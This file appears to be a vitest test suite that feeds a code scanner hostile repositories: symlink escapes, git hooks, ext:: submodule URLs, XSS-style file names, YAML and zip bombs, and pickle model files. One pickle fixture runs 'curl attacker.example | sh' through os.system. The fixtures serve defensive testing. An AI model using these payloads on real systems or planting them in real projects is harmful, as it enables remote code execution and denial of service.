/**
 * Hostile repositories: each is built with git, cloned and scanned through the real pipeline (clone, scan,
 * persist; local repositories allowed) or, where git cannot carry the attack cheaply, scanned by the engine.
 * The worker and the engine must come out unharmed: nothing outside the checkout is read, nothing in the
 * repository runs, caps are reported, and odd data is stored verbatim. See docs/RELIABILITY.md.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { lookup } from "node:dns/promises";
import { deflateRawSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { compileChecks, type CompiledRegex } from "../../lib/engine/compile.ts";
import { splitLines } from "../../lib/engine/finalize.ts";
import { MAX_REGEX_LINE, regexMatches } from "../../lib/engine/match.ts";
import { loadRulebook, parsePolicy, prefilterRegexes } from "../../lib/engine/rulebook.ts";
import { DEFAULT_MAX_FILES, scanDirectory } from "../../lib/engine/scan.ts";
import { syncCatalogue } from "../../lib/catalogue.ts";
import { registerRepository } from "../../lib/repos/service.ts";
import { enqueueScan } from "../../lib/scan/enqueue.ts";
import { CHECKOUT_PREFIX, removeOrphanedCheckouts } from "../../lib/scan/checkout.ts";
import { PermanentScanError } from "../../lib/scan/failure.ts";
import { runScan } from "../../lib/scan/pipeline.ts";
import { scratch, TEST_POLICY } from "../helpers.ts";
import { TestRepo } from "../support/git.ts";
import { callPickle, PickleWriter, safetensors, zipArchive } from "../support/pickle-writer.ts";
import { scanOnce, usePipelineTest } from "../support/pipeline.ts";

const p = usePipelineTest("hostile");
const { t, work } = p;
// Checkouts go here, so "the checkout was removed" is checked without racing other test files in /tmp.
const checkouts = scratch("posture-hostile-work-");
const outside = scratch("posture-hostile-outside-");
const REAL_RULES = join(import.meta.dirname, "../../rules");

async function scanRepo(repo: TestRepo, opts: { cloneTimeoutMs?: number } = {}) {
  const r = await registerRepository(t.db, { url: repo.dir, team: "red-team" }, true);
  const { outcome, scan: row } = await scanOnce(p, r.id, { allowLocalRepos: true, workRoot: checkouts.root, ...opts });
  const findings = await t.db.finding.findMany({ where: { repositoryId: r.id }, orderBy: [{ path: "asc" }, { line: "asc" }] });
  expect(readdirSync(checkouts.root), "the checkout is removed after the scan").toEqual([]);
  return {
    outcome,
    scan: row,
    findings,
    stats: row.stats as { files: number; skipped: Record<string, number> },
    errors: row.errors as { path: string; message: string }[],
  };
}

const EVAL = "def handler(x):\n    return eval(x)\n";

describe("symbolic links", () => {
  it("never follows a link out of the checkout, and survives link loops", async () => {
    const secretFile = outside.write("secret.py", 'api_key = "OUTSIDE-SECRET-123456"\neval(OUTSIDE_MARKER)\n');
    mkdirSync(outside.path("dir"), { recursive: true });
    outside.write("dir/inner.py", "eval(OUTSIDE_DIR_MARKER)\n");
    const repo = new TestRepo(work.path("symlinks"));
    repo.write("app/real.py", EVAL);
    symlinkSync("/etc/passwd", join(repo.dir, "passwd.py"));
    symlinkSync(secretFile, join(repo.dir, "app/secret.py"));
    symlinkSync(outside.path("dir"), join(repo.dir, "linked-dir"));
    symlinkSync("../..", join(repo.dir, "app/up"));
    symlinkSync("loop-b", join(repo.dir, "loop-a"));
    symlinkSync("loop-a", join(repo.dir, "loop-b"));
    symlinkSync(".", join(repo.dir, "self"));
    repo.commit("links");

    const { outcome, findings, stats, scan } = await scanRepo(repo);
    expect(outcome).toBe("succeeded");
    expect(findings.map((f) => [f.path, f.checkId])).toEqual([["app/real.py", "test.python.eval"]]);
    const stored = JSON.stringify({ findings, scan });
    for (const leaked of ["OUTSIDE", "root:x:0", "/etc/passwd"]) expect(stored).not.toContain(leaked);
    expect(stats.skipped.symlink).toBe(7);
  });
});

describe("git hooks and submodules", () => {
  it("runs no hook, not even one the worker's own git configuration would install", async () => {
    const marker = outside.path("hook-ran");
    const hook = `#!/bin/sh\necho "$0" >> ${marker}\n`;
    // A HOME whose git config names a hooks directory and a template with hooks: the strongest way a
    // clone could end up running a hook. The repository also ships hook-looking files of its own.
    const home = outside.path("home");
    for (const dir of ["hooks", "template/hooks"]) {
      for (const name of ["post-checkout", "post-merge", "reference-transaction", "pre-commit"]) {
        mkdirSync(join(home, dir), { recursive: true });
        writeFileSync(join(home, dir, name), hook, { mode: 0o755 });
      }
    }
    writeFileSync(join(home, ".gitconfig"), `[core]\n\thooksPath = ${home}/hooks\n[init]\n\ttemplateDir = ${home}/template\n`);
    const repo = new TestRepo(work.path("hooks"));
    repo.write("app/a.py", EVAL).write(".githooks/post-checkout", hook).write("hooks/post-checkout", hook);
    repo.commit("hooks");
    writeFileSync(join(repo.dir, ".git/hooks/post-checkout"), hook, { mode: 0o755 });
    repo.git("config", "core.hooksPath", ".githooks");

    // The fixture is sound: plain git with this HOME does run the hook.
    execFileSync("git", ["clone", "-q", repo.dir, outside.path("control-clone")], { env: { ...process.env, HOME: home } });
    expect(existsSync(marker)).toBe(true);
    execFileSync("rm", ["-f", marker]);

    const savedHome = process.env.HOME;
    process.env.HOME = home;
    try {
      const { outcome, findings } = await scanRepo(repo);
      expect(outcome).toBe("succeeded");
      expect(findings.map((f) => f.path)).toEqual(["app/a.py"]);
    } finally {
      process.env.HOME = savedHome;
    }
    expect(existsSync(marker)).toBe(false);
  });

  it("never fetches submodules, wherever they point", async () => {
    const marker = outside.path("ext-ran");
    const sub = new TestRepo(work.path("sub-target"));
    sub.write("inner.py", "eval(SUBMODULE_CODE)\n").commit("sub");
    const repo = new TestRepo(work.path("submodules"));
    repo.write("app/a.py", EVAL);
    repo.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", sub.dir, "vendor/sub");
    // Gitlinks pointing anywhere: a command via ext::, a local service port, a path outside.
    const sha = sub.git("rev-parse", "HEAD");
    repo.git("update-index", "--add", "--cacheinfo", `160000,${sha},vendor/ext`);
    repo.git("update-index", "--add", "--cacheinfo", `160000,${sha},vendor/port`);
    repo.write(
      ".gitmodules",
      `[submodule "vendor/sub"]\n\tpath = vendor/sub\n\turl = ${sub.dir}\n[submodule "vendor/ext"]\n\tpath = vendor/ext\n\turl = ext::sh -c touch% ${marker}\n[submodule "vendor/port"]\n\tpath = vendor/port\n\turl = http://127.0.0.1:6379/x\n`,
    );
    repo.commit("submodules");

    const { outcome, findings } = await scanRepo(repo);
    expect(outcome).toBe("succeeded");
    expect(findings.map((f) => f.path)).toEqual(["app/a.py"]);
    expect(JSON.stringify(findings)).not.toContain("SUBMODULE_CODE");
    expect(existsSync(marker)).toBe(false);
  });
});

describe("size and shape", () => {
  it("caps the number of files read and reports the rest as skipped", async () => {
    // The same cap as a repository of 100,000+ files (DEFAULT_MAX_FILES), at a size a unit test can afford;
    // bench/reliability (scenario many-files) runs 100,025 files through git and a worker process.
    const dir = scratch("posture-hostile-many-");
    const cap = 1000;
    for (let d = 0; d < 10; d++) for (let f = 0; f < cap / 10; f++) dir.write(`d${d}/f${f}.properties`, "x=1\n");
    for (let f = 0; f < 25; f++) dir.write(`zz/over${f}.properties`, "address = 0.0.0.0\n");
    const r = await scanDirectory(dir.root, { checks: parsePolicy(TEST_POLICY, "t.yaml").checks, maxFiles: cap });
    expect(r.stats.files).toBe(cap);
    expect(r.stats.skipped["file-limit"]).toBe(25);
    // Files are taken in path order, so the ones over the cap are the last: none of them was matched.
    expect(r.findings).toEqual([]);
    expect(DEFAULT_MAX_FILES).toBe(100_000);
  });

  it("skips a 2 GB file without reading it", async () => {
    // A sparse file costs no disk. Through git it would take about a minute to add and to clone, so the
    // engine scans it in place; a clone of it is refused by the repository size cap (test/pipeline).
    const dir = scratch("posture-hostile-big-");
    dir.write("app/a.py", EVAL);
    const big = dir.write("model.py", "");
    truncateSync(big, 2 * 1024 ** 3);
    const rulebook = parsePolicy(TEST_POLICY, "test.policy.yaml");
    const before = process.memoryUsage().rss;
    const r = await scanDirectory(dir.root, { checks: rulebook.checks });
    expect(r.stats.skipped["too-large"]).toBe(1);
    expect(r.findings.map((f) => f.path)).toEqual(["app/a.py"]);
    // Reading it would have grown the process by gigabytes.
    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
  });

  it("scans very deep directories and deeply nested code", async () => {
    const repo = new TestRepo(work.path("deep"));
    const deep = Array.from({ length: 800 }, () => "d").join("/");
    repo.write(`${deep}/bottom.py`, EVAL);
    repo.write("nested.py", `x = ${"(\n".repeat(20_000)}1${")\n".repeat(20_000)}\neval(x)\n`);
    repo.write("nested.properties", `${"address = 0.0.0.0\n".repeat(10)}`);
    repo.commit("deep");
    const { outcome, findings } = await scanRepo(repo);
    expect(outcome).toBe("succeeded");
    expect(findings.map((f) => [f.path, f.line])).toEqual([
      [`${deep}/bottom.py`, 2],
      ...Array.from({ length: 10 }, (_, i) => ["nested.properties", i + 1] as [string, number]),
      ["nested.py", 40_002],
    ]);
  });
});

describe("odd names and bytes", () => {
  it("stores file names with HTML, quotes and newlines verbatim, as data", async () => {
    const names = [
      '<img src=x onerror="alert(1)">.py',
      `it's "quoted" & <b>.py`,
      "new\nline.py",
      "tab\there.py",
      "-rf.py",
      "dir with spaces/é ü 漢字.py",
    ];
    const repo = new TestRepo(work.path("names"));
    for (const n of names) repo.write(n, EVAL);
    repo.commit("names");
    const { outcome, findings } = await scanRepo(repo);
    expect(outcome).toBe("succeeded");
    expect(findings.map((f) => f.path).sort()).toEqual([...names].sort());
    for (const f of findings) expect((f.context as { lines: string[] } | null)?.lines).toContain("    return eval(x)");
  });

  it("scans invalid UTF-8 and NUL bytes past the binary sniff, and reports an unreadable file name", async () => {
    const repo = new TestRepo(work.path("bytes"));
    repo.write("latin1.py", Buffer.concat([Buffer.from("# caf"), Buffer.from([0xe9, 0xff, 0xfe]), Buffer.from(`\n${EVAL}`)]));
    // A NUL after the first 8 KiB is not taken for binary: it reaches snippets, contexts and messages.
    repo.write("nul.py", `${"# padding padding padding padding\n".repeat(300)}eval(y\u0000)\n`);
    // A file name that is not UTF-8: Node cannot name it, so it is an error, not a crash.
    writeFileSync(Buffer.concat([Buffer.from(`${repo.dir}/bad-`), Buffer.from([0xff]), Buffer.from("-name.py")]), EVAL);
    repo.commit("bytes");
    const { outcome, findings, errors } = await scanRepo(repo);
    expect(outcome).toBe("succeeded");
    expect(findings.map((f) => [f.path, f.checkId]).sort()).toEqual([
      ["latin1.py", "test.python.eval"],
      ["nul.py", "test.python.eval"],
    ]);
    // The NUL is no Python token: the file is named as one that parsed with errors, and still scanned.
    expect(errors.map((e) => [e.path, e.message.replace(/[0-9]+/, "N")])).toEqual([
      ["bad-\ufffd-name.py", expect.stringContaining("")],
      ["nul.py", "parsed with errors near line N; findings come from the parts that parsed"],
    ]);
    const nul = findings.find((f) => f.path === "nul.py" && f.checkId === "test.python.eval")!;
    expect(nul.snippet).toBe("eval(y\ufffd)");
  });
});

describe("YAML bomb", () => {
  it("does not expand aliases in a bentofile.yaml bomb: the scan completes in bounded time and memory", async () => {
    const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 12; i++) {
      const prev = String.fromCharCode(96 + i);
      const cur = String.fromCharCode(97 + i);
      levels.push(`${cur}: &${cur} [${Array(9).fill(`*${prev}`).join(",")}]`);
    }
    const dir = scratch("posture-hostile-yaml-");
    dir.write("bentofile.yaml", `service: "service:Svc"\ninclude: ["*.py"]\n${levels.join("\n")}\nenvs: *l\n`);
    dir.write("service.py", "import bentoml\n\n@bentoml.service\nclass Svc:\n    pass\n");
    const before = process.memoryUsage().rss;
    const r = await scanDirectory(dir.root, { checks: loadRulebook(REAL_RULES).checks });
    // 9^12 expanded nodes would need terabytes; the tree-sitter parse is linear in the file's 1 KB.
    expect(r.stats.files).toBe(2);
    expect(r.errors).toEqual([]);
    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
  });
});

describe("regular expressions cannot backtrack without bound", () => {
  const regexChecks = loadRulebook(REAL_RULES).checks.filter((c) => c.match.language === "regex");

  it("never runs a regex check on a line longer than the cap", () => {
    const [check] = compileChecks(parsePolicy(TEST_POLICY, "t.yaml").checks.filter((c) => c.match.language === "regex")).checks;
    const c = check as typeof check & { matcher: CompiledRegex };
    const at = (n: number) => `address = 0.0.0.0${" ".repeat(n - 17)}`;
    expect(at(MAX_REGEX_LINE)).toHaveLength(MAX_REGEX_LINE);
    expect(regexMatches(splitLines(`${at(MAX_REGEX_LINE)}\n${at(MAX_REGEX_LINE + 1)}`), c).map((m) => m.start.line)).toEqual([0]);
  });

  /**
   * Exponential backtracking needs an unbounded quantifier over a group that itself contains one ((a+)+,
   * (a|a.*)*): flag every such group in every rulebook regex. A quantifier inside a lookbehind is scanned
   * backwards at each position tried, so it must be bounded or rest on a bounded part (see the
   * dockerfile-literal fix); those are measured in bench/reliability/regex.ts rather than flagged here.
   */
  function nestedUnboundedQuantifiers(src: string): string[] {
    const found: string[] = [];
    const stack: { start: number; unbounded: boolean }[] = [];
    let i = 0;
    const quantifierAt = (j: number): { unbounded: boolean; len: number } | undefined => {
      const ch = src[j];
      if (ch === "*" || ch === "+") return { unbounded: true, len: 1 };
      if (ch === "?") return { unbounded: false, len: 1 };
      const m = ch === "{" ? /^\{(\d+)(,(\d*))?\}/.exec(src.slice(j)) : null;
      if (m) return { unbounded: m[2] !== undefined && m[3] === "", len: m[0].length };
      return undefined;
    };
    while (i < src.length) {
      const ch = src[i]!;
      if (ch === "\\") {
        i += 2;
      } else if (ch === "[") {
        i++;
        while (i < src.length && src[i] !== "]") i += src[i] === "\\" ? 2 : 1;
        i++;
      } else if (ch === "(") {
        stack.push({ start: i, unbounded: false });
        i++;
        continue;
      } else if (ch === ")") {
        const g = stack.pop()!;
        const q = quantifierAt(i + 1);
        if (q?.unbounded && g.unbounded) found.push(src.slice(g.start, i + 1 + q.len));
        if (stack.length && g.unbounded) stack.at(-1)!.unbounded = true;
        i++;
      } else {
        i++;
      }
      const q = quantifierAt(i);
      if (q) {
        if (q.unbounded && stack.length) stack.at(-1)!.unbounded = true;
        i += q.len;
        if (src[i] === "?") i++; // lazy
      }
    }
    return found;
  }

  it("the analysis finds the classic shapes", () => {
    expect(nestedUnboundedQuantifiers("^(a+)+$")).toEqual(["(a+)+"]);
    expect(nestedUnboundedQuantifiers("(?:x|y.*)*z")).toEqual(["(?:x|y.*)*"]);
    expect(nestedUnboundedQuantifiers("(\\w{2,})*")).toEqual(["(\\w{2,})*"]);
    expect(nestedUnboundedQuantifiers("^(?:a+)?b*[(+]*(c{1,4})+$")).toEqual([]);
  });

  it.each(regexChecks.map((c) => [c.id, c] as const))("%s has no nested unbounded quantifier", (_id, c) => {
    const m = c.match as { pattern: string; unless?: string };
    expect(nestedUnboundedQuantifiers(m.pattern)).toEqual([]);
    if (m.unless) expect(nestedUnboundedQuantifiers(m.unless)).toEqual([]);
  });

  // Prefilter regexes run on a whole file (up to the size cap), not a line: the same shapes are barred there.
  const needleRegexes = loadRulebook(REAL_RULES).checks.flatMap((c) => prefilterRegexes(c.prefilter).map((n) => [c.id, n.regex] as const));
  it("the rulebook has prefilter regexes to check", () => expect(needleRegexes.length).toBeGreaterThan(10));
  // Reviewed exceptions: a repeated `.name` segment whose name class excludes "." cannot be split two ways, so
  // it backtracks at most linearly (bench/reliability/regex.ts measures every prefilter regex's growth).
  const DOTTED_SEGMENTS = String.raw`(?:[\p{Zs}\t\v\f\ufeff\u200b\u2060]*\.[\p{Zs}\t\v\f\ufeff\u200b\u2060]*[^\s\\.\u200b\u2060()\[\]{}"']+)*`;
  it.each(needleRegexes)("%s: prefilter regex has no nested unbounded quantifier", (_id, src) => {
    expect(nestedUnboundedQuantifiers(src).filter((g) => g !== DOTTED_SEGMENTS)).toEqual([]);
  });
});

describe("repository URLs that point at this machine", () => {
  const local = [
    "https://127.0.0.1:6379/x",
    "https://localhost:5432/org/repo",
    "ssh://git@127.1:6379/x",
    "git@2130706433:org/repo",
    "https://[::ffff:127.0.0.1]:6379/x",
    "https://LOCALHOST./x",
    "file:///etc",
    "/etc",
  ];

  // Allowing local repositories (the demo) allows paths inside one folder, not this machine's network services
  // or the rest of its disk (issue 15).
  it.each(local)("refuses %s, whether or not local repositories are allowed", async (url) => {
    await expect(registerRepository(t.db, { url, team: "red-team" }, false)).rejects.toMatchObject({ code: "invalid_url" });
    await expect(registerRepository(t.db, { url, team: "red-team" }, true)).rejects.toMatchObject({ code: "invalid_url" });
  });

  it("refuses, at clone time, a host name that resolves to this machine", async () => {
    const name = hostname();
    const addresses = await lookup(name, { all: true }).catch(() => []);
    expect(addresses.length, `${name} resolves here (it is in /etc/hosts)`).toBeGreaterThan(0);
    const url = `https://${name}:6379/org/repo.git`;
    // Registration resolves the name too (issue 15); a row from before that, or a name whose DNS answer has
    // changed since, is refused when the worker resolves it again right before connecting.
    await expect(registerRepository(t.db, { url, team: "red-team" }, false)).rejects.toMatchObject({
      code: "invalid_url",
      message: expect.stringMatching(/resolves to an address on this machine/),
    });
    const team = await t.db.team.upsert({ where: { name: "red-team" }, create: { name: "red-team" }, update: {} });
    const r = await t.db.repository.create({ data: { url, urlKey: url, name: "resolves-here", teamId: team.id } });
    const { scan } = await enqueueScan(t.db, p.queues, r.id, "manual");
    await expect(
      runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: false, workRoot: checkouts.root }, scan.id, {
        number: 1,
        max: 3,
      }),
    ).rejects.toBeInstanceOf(PermanentScanError);
    expect(await t.db.scan.findUniqueOrThrow({ where: { id: scan.id } })).toMatchObject({ status: "failed", failureCode: "local_address" });
  });
});

describe("a worker killed mid-scan", () => {
  it("leaves a checkout the next worker removes, and live workers' checkouts are kept", async () => {
    const root = mkdtempSync(join(tmpdir(), "posture-orphans-"));
    // A pid that existed and is gone: a child that has exited.
    const dead = spawnSync(process.execPath, ["-e", "0"]).pid!;
    const orphan = mkdtempSync(join(root, `${CHECKOUT_PREFIX}${dead}-`));
    const mine = mkdtempSync(join(root, `${CHECKOUT_PREFIX}${process.pid}-`));
    const other = mkdtempSync(join(root, "something-else-"));
    expect(await removeOrphanedCheckouts(root)).toEqual([orphan.split("/").pop()]);
    expect([existsSync(orphan), existsSync(mine), existsSync(other)]).toEqual([false, true, true]);
  });
});

describe("hostile model files", () => {
  const modelRules = scratch("posture-hostile-model-rules-");
  modelRules.write("test.policy.yaml", TEST_POLICY);
  modelRules.write("model-artifacts.policy.yaml", readFileSync(join(REAL_RULES, "ml-serving/model-artifacts.policy.yaml"), "utf8"));
  // its loader check uses the shared utils (deserialization-sink)
  modelRules.write("utils.yaml", readFileSync(join(REAL_RULES, "utils.yaml"), "utf8"));
  const artifactChecks = loadRulebook(REAL_RULES).checks.filter((c) => c.policy === "Model artifacts carry no executable code");
  const scanModels = (root: string, artifactLimits?: Parameters<typeof scanDirectory>[1]["artifactLimits"]) =>
    scanDirectory(root, { checks: [...parsePolicy(TEST_POLICY, "t.yaml").checks, ...artifactChecks], artifactLimits });
  const errorsOf = (r: Awaited<ReturnType<typeof scanModels>>) => r.errors.map((e) => [e.path, e.message]);
  /** A deflate stream of `bytes` zeros, made a chunk at a time (never the whole buffer). */
  const zeros = (bytes: number) => {
    const d = deflateRawSync(Buffer.alloc(1024 * 1024));
    // deflate streams do not concatenate; one of a big buffer is still only ~1/1000 of it
    return bytes <= 1024 * 1024 ? d : deflateRawSync(Buffer.alloc(bytes));
  };

  it("a repository of them is cloned and scanned: the malicious model is stored as a finding, the bomb as an error", async () => {
    const rulebook = loadRulebook(modelRules.root);
    await syncCatalogue(t.db, rulebook);
    const repo = new TestRepo(work.path("models"));
    repo.write("app/a.py", EVAL);
    repo.write(
      "models/evil.pt",
      zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") }]),
    );
    // 64 MiB of zeros in a 64 KiB entry: its header is honest, its ratio gives it away before a byte is inflated
    repo.write(
      "models/bomb.pt",
      zipArchive([
        {
          name: "archive/data.pkl",
          data: Buffer.alloc(0),
          declaredSize: 64 * 1024 ** 2,
          method: "deflate",
          compressed: zeros(64 * 1024 ** 2),
        },
      ]),
    );
    repo.write("models/weights.safetensors", safetensors());
    repo.write("models/big.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 9\n");
    repo.commit("models");
    const r = await registerRepository(t.db, { url: repo.dir, team: "red-team" }, true);
    const { scan } = await enqueueScan(t.db, p.queues, r.id, "manual");
    const outcome = await runScan({ db: t.db, databaseUrl: t.url, rulebook, allowLocalRepos: true, workRoot: checkouts.root }, scan.id, {
      number: 1,
      max: 1,
    });
    expect(outcome).toBe("succeeded");
    const row = await t.db.scan.findUniqueOrThrow({ where: { id: scan.id } });
    const findings = await t.db.finding.findMany({ where: { repositoryId: r.id }, orderBy: [{ path: "asc" }] });
    expect(findings.map((f) => [f.path, f.checkId, f.severity, f.line])).toEqual([
      ["app/a.py", "test.python.eval", "high", 2],
      ["models/evil.pt", "ml-serving.artifact.code-execution", "critical", 1],
    ]);
    expect(findings[1]!.message).toContain("os.system (in archive/data.pkl)");
    expect(findings[1]!.context, "no lines are cut from a binary file").toBeNull();
    expect(row.errors).toEqual([
      {
        path: "models/bomb.pt",
        message: expect.stringMatching(
          /^not scanned: archive\/data\.pkl would inflate \d+ times \(64 MiB\), past the limit of 200; a zip bomb\?$/,
        ),
      },
    ]);
    expect((row.stats as { artifacts: unknown }).artifacts).toMatchObject({
      files: 3,
      safe: 1,
      formats: { "torch-zip": 2, safetensors: 1 },
    });
    expect((row.stats as { skipped: Record<string, number> }).skipped["lfs-pointer"]).toBe(1);
    expect(readdirSync(checkouts.root)).toEqual([]);
  });

  it("a zip entry that inflates past the size its header declares is stopped there", async () => {
    const dir = scratch("posture-hostile-lying-zip-");
    // a pickle that opens with an 8 GiB BINBYTES8: the reader skips the bytes, the archive's size check stops them
    const head = new PickleWriter()
      .proto(4)
      .raw(0x8e, Buffer.from([0, 0, 0, 0, 2, 0, 0, 0]))
      .bytes();
    dir.write(
      "m/lying.pt",
      zipArchive([
        {
          name: "archive/data.pkl",
          data: head,
          declaredSize: 4096,
          method: "deflate",
          compressed: deflateRawSync(Buffer.concat([head, Buffer.alloc(32 * 1024 ** 2)])),
        },
      ]),
    );
    dir.write("m/evil.pkl", callPickle("os", "system", "id"));
    const before = process.memoryUsage().rss;
    const r = await scanModels(dir.root);
    expect(errorsOf(r)).toEqual([
      ["m/lying.pt", expect.stringMatching(/^archive\/data\.pkl: not fully scanned: too many bytes in the stream/)],
    ]);
    expect(r.findings.map((f) => f.path)).toEqual(["m/evil.pkl"]);
    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
  });

  it("overlapping entries, a flood of entries and archives nested past the limit are each reported, and the scan goes on", async () => {
    const dir = scratch("posture-hostile-zips-");
    // one 4 MiB kernel, named by 500 central-directory entries: each would inflate 1000 times
    const kernel = zipArchive([
      {
        name: "k.pkl",
        data: Buffer.alloc(0),
        declaredSize: 4 * 1024 ** 2,
        method: "deflate",
        compressed: deflateRawSync(Buffer.alloc(4 * 1024 ** 2)),
      },
    ]);
    const cdAt = kernel.readUInt32LE(kernel.length - 6);
    const cd = kernel.subarray(cdAt, kernel.length - 22);
    const copies = Array.from({ length: 500 }, () => cd);
    const end = Buffer.from(kernel.subarray(kernel.length - 22));
    end.writeUInt16LE(500, 8);
    end.writeUInt16LE(500, 10);
    end.writeUInt32LE(cd.length * 500, 12);
    dir.write("m/overlap.pt", Buffer.concat([kernel.subarray(0, cdAt), ...copies, end]));
    dir.write("m/flood.npz", zipArchive(Array.from({ length: 10_050 }, (_, i) => ({ name: `a${i}.txt`, data: Buffer.from("x") }))));
    let nested = zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "id") }]);
    for (let i = 0; i < 5; i++) nested = zipArchive([{ name: `level${i}.pt`, data: nested, method: i % 2 ? "deflate" : "store" }]);
    dir.write("m/nested.mar", nested);
    dir.write("m/evil.pkl", callPickle("os", "system", "id"));
    const r = await scanModels(dir.root);
    const errors = errorsOf(r);
    expect(errors.filter(([p]) => p === "m/overlap.pt")).toHaveLength(500);
    expect(errors.find(([p]) => p === "m/overlap.pt")![1]).toMatch(
      /^not scanned: k\.pkl would inflate \d+ times \(4 MiB\), past the limit of 200; a zip bomb\?$/,
    );
    expect(errors).toContainEqual(["m/flood.npz", "not fully scanned: flood.npz has 10050 entries; the first 10000 were read"]);
    expect(errors).toContainEqual([
      "m/nested.mar",
      "not scanned: level4.pt > level3.pt > level2.pt is an archive nested 3 deep, past the limit of 3",
    ]);
    expect(r.findings.map((f) => f.path)).toEqual(["m/evil.pkl"]);
  });

  it("truncated pickles, at every length, never throw and keep what they imported", async () => {
    const dir = scratch("posture-hostile-truncated-");
    const full = callPickle("posix", "system", "id", 2);
    for (let n = 1; n < full.length; n++) dir.write(`m/cut${String(n).padStart(2, "0")}.pkl`, full.subarray(0, n));
    const r = await scanModels(dir.root);
    expect(r.errors.every((e) => /^not fully scanned: pickle at byte 0: (truncated|.* is not a Python name)/.test(e.message))).toBe(true);
    expect(r.errors).toHaveLength(full.length - 1);
    // once GLOBAL's two lines are read, the import is reported however the file ends
    const afterGlobal = "\x80\x02cposix\nsystem\n".length;
    expect(r.findings.map((f) => f.path)).toEqual(
      Array.from({ length: full.length - afterGlobal }, (_, i) => `m/cut${String(afterGlobal + i).padStart(2, "0")}.pkl`),
    );
  });

  it("an opcode flood is stopped at the stack limit, and a memo flood cannot hide an import", async () => {
    const dir = scratch("posture-hostile-flood-");
    dir.write("m/marks.pkl", Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(3_000_000, 0x28)]));
    // 1.2 million memoised strings, then a STACK_GLOBAL of two that the memo limit did not keep
    const w = new PickleWriter().proto(4);
    for (let i = 0; i < 1_200_000; i++)
      w.shortUnicode(i === 1_100_000 ? "os" : i === 1_100_001 ? "system" : "x")
        .memoize()
        .pop();
    w.raw(0x6a, Buffer.from(Uint32Array.of(1_100_000).buffer), 0x6a, Buffer.from(Uint32Array.of(1_100_001).buffer))
      .stackGlobal()
      .stop();
    dir.write("m/memo.pkl", w.bytes());
    const before = process.memoryUsage().rss;
    const started = performance.now();
    const r = await scanModels(dir.root);
    expect(errorsOf(r)).toEqual([
      [
        "m/marks.pkl",
        "not fully scanned: the pickle at byte 0 grows its stack past 1000000 entries (an opcode flood); the rest was not read",
      ],
    ]);
    expect(r.findings.map((f) => [f.path, f.ruleId])).toEqual([["m/memo.pkl", "ml-serving.artifact.computed-import"]]);
    expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
    expect(performance.now() - started).toBeLessThan(20_000);
  });

  it("the per-file and per-scan read limits are reported, and files within them are still scanned", async () => {
    const dir = scratch("posture-hostile-budget-");
    const big = new PickleWriter()
      .proto(4)
      .raw(0x8e, Buffer.from([0, 0, 0x40, 0, 0, 0, 0, 0]))
      .bytes(); // 4 MiB of bytes
    dir.write("a/big.pkl", Buffer.concat([big, Buffer.alloc(4 * 1024 ** 2), callPickle("os", "system", "id").subarray(2)]));
    dir.write("b/evil.pkl", callPickle("os", "system", "id"));
    const perFile = await scanModels(dir.root, { maxFileBytes: 1024 ** 2 });
    expect(errorsOf(perFile)).toEqual([["a/big.pkl", "not fully scanned: read 1 MiB of it, the limit for one file (decompressed)"]]);
    expect(perFile.findings.map((f) => f.path)).toEqual(["b/evil.pkl"]);
    const perScan = await scanModels(dir.root, { maxScanBytes: 2 * 1024 ** 2 });
    expect(errorsOf(perScan)).toEqual([
      ["a/big.pkl", "not fully scanned: the scan has read 2 MiB of model files, its limit"],
      ["b/evil.pkl", "not fully scanned: the scan has read 2 MiB of model files, its limit"],
    ]);
  });
});
